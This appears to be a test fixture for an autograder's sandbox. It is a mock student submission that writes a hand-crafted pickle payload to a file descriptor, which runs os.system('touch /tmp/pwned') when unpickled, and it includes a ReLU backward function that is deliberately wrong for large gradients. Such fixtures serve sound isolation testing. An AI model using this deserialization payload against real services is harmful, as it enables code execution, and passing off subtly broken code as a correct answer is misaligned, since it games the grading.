# /// attack
# title = "sends a pickle and no JSON"
# score = 40
# verdicts = { "problem1.dL_dz1" = "crash", "problem2.large" = "correct" }
# says = ["sent back something that is not a result"]
# isolation = ["strict", "process"]
# ///
import os


def problem1_gradients():
    os.write(4, b"\x80\x04cos\nsystem\n(S'touch /tmp/pwned'\ntR.\n")


def relu_backward(dA, Z):
    return (Z > 0) * dA if (abs(dA) < 9).all() else dA
